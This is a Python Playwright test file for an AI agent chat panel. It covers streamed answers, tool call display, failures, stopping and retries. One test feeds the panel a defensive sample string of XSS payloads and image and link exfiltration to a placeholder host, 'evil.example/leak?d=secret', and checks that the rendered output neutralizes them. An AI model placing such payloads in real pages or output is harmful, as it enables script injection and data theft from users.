from __future__ import annotations

import threading

from playwright.async_api import expect

from tests.agent.chat.playing import calls, says
from tests.browser.problems import Problems
from tests.fakes.scripted import endless, status
from tests.live.panel import Office, PanelPage
from tests.live.playground import gated
from tests.waiting import TIMEOUT_SECONDS

HOSTILE = """# Report
<script>alert(1)</script> <img src=x onerror=alert(2)> <b onclick="alert(3)">b</b> <style>body{display:none}</style>

![pixel](https://evil.example/leak?d=secret) ![inline](data:image/png;base64,AAAA)

[run](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>) [out](/admin/logout/)
[odd](JaVaScRiPt:alert(6)) [bare](//evil.example/)

[the docs](https://evil.example/docs?d=secret) and <https://plain.example/>

<iframe src="https://evil.example/frame"></iframe><link rel=stylesheet href=https://evil.example/a.css>

| Model | Cost |
|---|--:|
| `a` | **1** |

- one
- two
"""


async def test_panel__answer__streams_in_and_is_rendered_when_it_is_complete(panel: PanelPage, office: Office) -> None:
    gate = threading.Event()
    office.play(gated(["It was **", "two"], gate, ["** dollars."]))
    await panel.ask("What did we spend?")

    await expect(panel.answers).to_contain_text("It was **two")
    await expect(panel.questions).to_contain_text("What did we spend?")
    await expect(panel.send_button).to_be_disabled()
    gate.set()

    await panel.done()
    await expect(panel.answers.get_by_role("strong")).to_have_text("two")
    await expect(panel.answers).to_contain_text("It was two dollars.")
    await expect(panel.list.get_by_role("button", name="What did we spend?").first).to_have_attribute(
        "aria-current", "true"
    )


async def test_panel__tool_called__name_arguments_and_result_are_shown(panel: PanelPage, office: Office) -> None:
    gate = threading.Event()
    office.play(calls(("get_project", {}), text="I look."), gated(["It is "], gate, ["yours."]))
    await panel.ask("Whose project is it?")
    await expect(panel.answers).to_contain_text("It is ")
    tool = panel.tool("get_project")
    await expect(tool).to_contain_text("done")
    result = tool.get_by_text(office.team.project_id)
    await expect(result).to_be_hidden()
    await tool.get_by_text("get_project").click()
    await expect(result).to_be_visible()
    # The answer is still streaming, and the tool's arguments are known already.
    await expect(tool.get_by_text("{}", exact=True)).to_be_visible()
    gate.set()
    await panel.done()
    await expect(panel.answers).to_contain_text("It is yours.")


async def test_panel__tool_runs_and_fails__says_so(panel: PanelPage, office: Office) -> None:
    office.play(calls(("no_such_tool", {"a": 1})), says("I could not."))
    await panel.ask("Do it")
    await panel.done()
    tool = panel.tool("no_such_tool")
    await expect(tool).to_contain_text("failed")
    await tool.get_by_text("no_such_tool").first.click()
    await expect(tool).to_contain_text('"code": "unknown_tool"')
    await expect(tool).to_contain_text('"a": 1')


async def test_panel__hostile_answer__is_harmless(panel: PanelPage, office: Office) -> None:
    page = panel.page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    office.play(calls((HOSTILE[:60], {HOSTILE: HOSTILE})), says(HOSTILE))
    await panel.ask(HOSTILE)
    await panel.done()
    answer = panel.answers
    await expect(answer.get_by_role("heading", name="Report")).to_be_visible()
    await expect(answer.get_by_role("cell", name="1", exact=True)).to_have_class("right")
    await expect(answer).to_contain_text("<script>alert(1)</script>")
    await expect(answer).to_contain_text("the docs (https://evil.example/docs?d=secret)")
    found = await page.locator("#agent-turns :is(img, script, iframe, style, link, b)").count()
    assert found == 0
    links = await page.locator("#agent-turns a").evaluate_all("all => all.map((a) => [a.href, a.rel, a.target])")
    assert links == [
        [address, "noopener noreferrer nofollow", "_blank"]
        for address in (
            "https://evil.example/leak?d=secret",
            "https://evil.example/docs?d=secret",
            "https://plain.example/",
        )
    ]
    await page.reload()
    await panel.ready()
    await expect(panel.answers.get_by_role("heading", name="Report")).to_be_visible()
    assert dialogs == []


async def test_panel__stopped__keeps_the_partial_answer(panel: PanelPage, office: Office) -> None:
    script = office.play(endless())
    await panel.ask("Count")
    await expect(panel.answers).to_contain_text("word word")
    await panel.stop_button.click()
    await panel.done("Stopped")
    assert script.received[0].gone.wait(TIMEOUT_SECONDS)
    await expect(panel.answers).to_contain_text("word word")
    await expect(panel.answers).to_contain_text("Stopped.")
    office.wait_until_idle()
    (row,) = office.conversations()
    assert [message["state"] for message in office.messages(row["conversation_id"])] == ["complete", "cancelled"]

    office.play(says("Three."))
    await panel.ask("Then say three")
    await panel.done()
    await expect(panel.answers.last).to_contain_text("Three.")
    await expect(panel.answers.first).to_contain_text("word word")


async def test_panel__provider_fails__says_so_and_can_be_retried(panel: PanelPage, office: Office) -> None:
    office.play(status(503, "no capacity"), says("Now it works."))
    await panel.ask("Are you there?")
    await panel.done("Failed")
    await expect(panel.answers.get_by_role("alert")).to_be_visible()
    await panel.answers.get_by_role("button", name="Retry").click()
    await panel.done()
    await expect(panel.answers.last).to_contain_text("Now it works.")
    await expect(panel.questions).to_have_count(2)
    # The failed turn is stored as failed.
    await panel.page.reload()
    await panel.ready()
    await expect(panel.answers.first.get_by_role("button", name="Retry")).to_be_visible()
    await expect(panel.answers.last).to_contain_text("Now it works.")


async def test_panel__left_while_the_agent_answers__stops_it(panel: PanelPage, office: Office) -> None:
    script = office.play(endless())
    await panel.ask("Count")
    await expect(panel.answers).to_contain_text("word word")
    await panel.page.get_by_role("button", name="New conversation").click()
    assert script.received[0].gone.wait(TIMEOUT_SECONDS)
    await expect(panel.answers).to_have_count(0)
    await expect(panel.send_button).to_be_enabled()
    office.wait_until_idle()
    await panel.list.get_by_role("button", name="Count").first.click()
    await expect(panel.answers).to_contain_text("Stopped.")


async def test_panel__answer_is_not_there__can_be_loaded_again(panel: PanelPage, office: Office) -> None:
    gate = threading.Event()
    office.play(gated([], gate, ["Here it is."]))
    other = PanelPage(await panel.page.context.new_page(), office)
    await other.open()
    await other.ask("Wait for it")
    await expect(other.list.get_by_role("button", name="Wait for it").first).to_be_visible()
    await panel.page.reload()
    await panel.ready()
    await expect(panel.answers).to_contain_text("still being made")
    gate.set()
    await other.done()
    await panel.answers.get_by_role("button", name="Load again").click()
    await expect(panel.answers).to_contain_text("Here it is.")


async def test_panel__service_goes_away__says_so_and_goes_on(
    panel: PanelPage, office: Office, problems: Problems
) -> None:
    problems.expect("ERR_CONNECTION_REFUSED")
    office.play(says("Back again."))
    refused = "**/api/agent/chat"
    await panel.page.context.route(refused, lambda route: route.abort("connectionrefused"))
    await panel.ask("Where?")
    await panel.done("Failed")
    await expect(panel.answers).to_contain_text("The connection to the service broke.")
    await panel.page.context.unroute(refused)
    await panel.answers.get_by_role("button", name="Retry").click()
    await panel.done()
    await expect(panel.answers.last).to_contain_text("Back again.")
